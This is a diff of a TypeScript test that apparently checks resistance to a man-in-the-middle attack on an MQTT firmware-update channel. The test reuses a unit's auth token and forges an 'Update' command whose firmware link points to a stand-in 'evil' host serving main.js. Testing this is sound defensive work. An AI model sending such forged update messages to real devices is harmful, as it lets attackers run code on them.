@@ -74,7 +74,11 @@ const forgedLink: Row = {
     const { PU_AUTH_TOKEN: username } = JSON.parse(await readFile(join(unit.folder, 'env.json'), 'utf8')) as {
       PU_AUTH_TOKEN: string;
     };
-    const between = await connectAsync(yard.instance.mqttUrl, { username, password: '', clientId: 'in the middle' });
+    const between = await connectAsync(yard.instance.mqttUrl, {
+      username,
+      password: '',
+      clientId: `${unit.uuid}-between`,
+    });
     lab.later({ stop: () => between.endAsync(true) });
     const begun = performance.now();
     const forged = { COMMAND: 'Update', PU_COMMIT_VERSION: commit, COMPILED_FIRMWARE_LINK: `${evil.origin}/main.js` };
